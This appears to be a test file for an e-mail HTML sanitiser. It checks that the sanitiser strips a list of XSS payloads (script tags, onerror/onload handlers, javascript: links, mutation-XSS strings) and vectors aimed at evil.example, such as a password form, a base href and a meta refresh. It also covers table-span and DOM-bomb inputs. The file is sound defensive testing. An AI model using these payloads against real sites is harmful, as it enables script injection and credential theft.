import { expect } from '@open-wc/testing';
import { cleanMail, LONGEST_PAGE, swells, weigh } from './mail-sanitiser.js';

const own = (page: string) => {
  const holder = document.createElement('div');
  const mail = cleanMail(page);
  if (mail) holder.append(mail.own.cloneNode(true));
  return holder;
};

/** Each one would run, load or submit something in a page that trusts it. */
const HOSTILE = [
  '<script>alert(1)</script><p>x</p>',
  '<img src=x onerror=alert(1)>x',
  '<svg onload=alert(1)><circle/></svg>x',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>x',
  '<form action=https://evil.example><input name=password><button>x</button></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>x',
  '<object data=x></object><embed src=x><p>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<base href="https://evil.example/"><a href="/x">x</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><p>x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css><p>x</p>',
  '<style>*{background:url(https://evil.example/x)}</style><p>x</p>',
  '<p style="background:url(https://evil.example/x);position:fixed">x</p>',
  '<table background="https://evil.example/x"><tr><td>x</table>',
  '<video src=x poster=https://evil.example/x onerror=alert(1)></video>x',
  '<img srcset="https://evil.example/x 1x" src="data:image/svg+xml,<svg onload=alert(1)>">x',
  '<p id=cookie name=body class=menu>x</p>',
  '<template><img src=x onerror=alert(1)></template>x',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>',
  '<p data-x=1 aria-label=y tabindex=1 contenteditable>x</p>',
];
const BAD_ELEMENTS =
  'script, style, svg, math, form, input, button, iframe, object, embed, base, meta, link, video, audio, template, noscript';

describe('e-mail sanitiser', () => {
  for (const page of HOSTILE)
    it(`takes the sting out of ${page.slice(0, 60)}`, () => {
      const clean = own(page);
      expect(clean.textContent).to.contain('x');
      expect(clean.querySelectorAll(BAD_ELEMENTS)).to.have.length(0);
      for (const element of clean.querySelectorAll('*'))
        for (const { name, value } of element.attributes) {
          expect(name).to.match(
            /^(?:href|src|alt|title|width|height|border|colspan|rowspan|dir|lang|align|valign|start|target|rel|wrap)$/u,
          );
          if (name === 'href') expect(value).to.match(/^(?:https?:|mailto:|tel:)/u);
          if (name === 'src') expect(value).to.match(/^(?:https?:|data:image\/(?:png|jpe?g|gif|webp);)/u);
        }
    });

  it('finds the positive control in a page that trusts its senders', async () => {
    // The same kind of string, in the way we do not do it: proof that these strings bite.
    const fired = new Promise<void>((done) => Object.assign(window, { bitten: done }));
    const naive = document.body.appendChild(document.createElement('div'));
    naive.innerHTML = '<img src="data:," onerror="window.bitten()">';
    await fired;
    naive.remove();
  });

  it('keeps what makes a mail readable', () => {
    const clean = own(
      '<h1>Offer</h1><p dir=rtl>a <b>b</b></p><ul><li>one</ul><table border=1><tr><td colspan=2>c</td></tr></table>' +
        '<a href="https://a.example/">d</a><img src="https://a.example/p.png" width=100 height=50 alt="e">',
    );
    expect(clean.querySelectorAll('h1, b, li, td[colspan="2"], a[href], img[alt=e], [dir=rtl]')).to.have.length(7);
    const link = clean.querySelector('a')!;
    expect(link.rel).to.equal('noopener noreferrer nofollow');
    expect(link.target).to.equal('_blank');
    expect(link.title, 'says where it leads').to.equal('https://a.example/');
  });

  it('counts pictures from outside, and shows nobody the ones of one pixel', () => {
    const page =
      '<img src="https://a.example/1.png"><img src="https://a.example/spy.gif" width=1 height=1><img src="data:image/png;base64,AA==">x';
    expect(cleanMail(page)!.remote).to.equal(1);
    expect(own(page).querySelectorAll('img')).to.have.length(2);
  });

  const QUOTED: [from: string, page: string][] = [
    ['Gmail', '<p>mine</p><div class="gmail_quote">theirs</div>'],
    ['Apple Mail', 'mine<blockquote type="cite">theirs</blockquote>'],
    ['Outlook', '<p>mine</p><div id="divRplyFwdMsg">From: x</div><div>theirs</div>'],
    ['Thunderbird', '<p>mine</p><div class="moz-cite-prefix">On x wrote</div><blockquote>theirs</blockquote>'],
  ];
  for (const [from, page] of QUOTED)
    it(`finds what was written before, as ${from} marks it`, () => {
      const mail = cleanMail(page)!;
      expect(mail.own.textContent).to.equal('mine');
      expect(mail.quoted!.textContent).to.contain('theirs');
      expect(mail.quoted!.querySelectorAll('[class], [id], [type]')).to.have.length(0);
    });

  it('shows a mail that is all quotation', () => {
    const mail = cleanMail('<div class="gmail_quote">forwarded</div>')!;
    expect(mail.own.textContent).to.equal('forwarded');
    expect(mail.quoted).to.equal(undefined);
  });

  it('gives endless words places to break', () => {
    const clean = own(`<p>${'x'.repeat(100)}</p>`);
    expect(clean.textContent).to.equal('x'.repeat(100));
    expect(clean.querySelectorAll('wbr')).to.have.length(5);
  });

  it('weighs a page before any of it is parsed', () => {
    expect(weigh('<p>hello</p>'.repeat(100))).to.equal('light');
    expect(weigh('<p>hello<br>'.repeat(1400))).to.equal('light');
    expect(weigh('<p>hello</p>'.repeat(2000))).to.equal('heavy');
    expect(weigh('x'.repeat(100_001))).to.equal('heavy');
    expect(weigh('<div>'.repeat(300))).to.equal('never');
    expect(weigh('x'.repeat(LONGEST_PAGE + 1))).to.equal('never');
  });

  it('lets a cell go over so many others and no more', () => {
    const cells = own('<table><tr><td colspan=1000 rowspan=65534>a<td colspan="3" rowspan="0">b<th rowspan=60000>c');
    const spans = [...cells.querySelectorAll('td, th')].map((cell) =>
      ['colspan', 'rowspan'].map((one) => cell.getAttribute(one)),
    );
    expect(spans).to.deep.equal([
      ['50', '50'],
      ['3', null],
      [null, '50'],
    ]);
  });

  it('counts what the cells go over also where a page hides it from the scales', () => {
    const page = `<table><tr>${'<td title=">" colspan=1000 rowspan=65534>x'.repeat(900)}`;
    expect(weigh(page)).to.equal('light');
    const clean = own(page);
    expect(clean.querySelectorAll('td')).to.have.length(900);
    expect(clean.querySelectorAll('[colspan]')).to.have.length(8);
    expect(clean.querySelectorAll('[rowspan]')).to.have.length(8);
  });

  it('does not take a table apart whose cells all go over everything', () => {
    for (const cell of [
      '<td colspan=1000 rowspan=65534>x',
      `<TH rowspan='60000' colspan=" 99">x`,
      '<td colspan=+99 rowspan=99>x',
    ])
      for (const times of [725, 1450, 2900]) expect(weigh(`<table><tr>${cell.repeat(times)}`), cell).to.equal('never');
    const rows = '<tr><td rowspan=65534>x<td rowspan=65534>y'.repeat(350);
    expect(weigh(`<table>${rows}`)).to.equal('never');
    expect(weigh(`<table>${'<tr><td colspan="2">x</td><td rowspan="3">y</td></tr>'.repeat(400)}</table>`)).to.equal(
      'light',
    );
    expect(weigh(`<table>${'<tr><td colspan="12">x</td></tr>'.repeat(400)}</table>`), 'a newsletter').to.equal('light');
  });

  it('asks for one policy, of our name, from the very first call', async () => {
    // A page of its own, under the rules of a strict host: the sanitiser's own policy would be refused and reported.
    const page = document.createElement('iframe');
    const address = new URL('./mail-sanitiser.ts', import.meta.url).href;
    const rules = "require-trusted-types-for 'script'; trusted-types crm-email";
    page.srcdoc =
      `<meta http-equiv="Content-Security-Policy" content="${rules}"><script>window.process={env:{}};window.refused=[];` +
      `document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.violatedDirective + ' ' + event.sample));` +
      `</script><script type="module">import { cleanMail, trusted } from '${address}';` +
      `window.said = cleanMail('<p>hello<img src=x onerror=alert(1)></p>').own.textContent;` +
      `window.kind = Object.prototype.toString.call(trusted('<p>'));</script>`;
    document.body.append(page);
    const inside = () => page.contentWindow as unknown as { said?: string; kind?: string; refused: string[] };
    while (inside()?.kind === undefined) await new Promise((done) => setTimeout(done, 20));
    expect(inside().said).to.equal('hello');
    expect(inside().kind).to.equal('[object TrustedHTML]');
    expect(inside().refused).to.deep.equal([]);
    page.remove();
  });
});

it('a small page that becomes a huge tree is given up before it is one', () => {
  const open = (count: number) => Array.from({ length: count }, (_, at) => `<b title=${at}>`).join('');
  const bomb = `<p>${open(190)}<p>${'x<p>'.repeat(2700)}`;
  expect(weigh(bomb)).to.equal('light');
  expect(swells(bomb)).to.equal(true);
  expect(cleanMail(bomb)).to.equal(undefined);
  expect(swells(`<table>${'<tr><td><b>Row</b></td></tr>'.repeat(900)}</table>`)).to.equal(false);
});
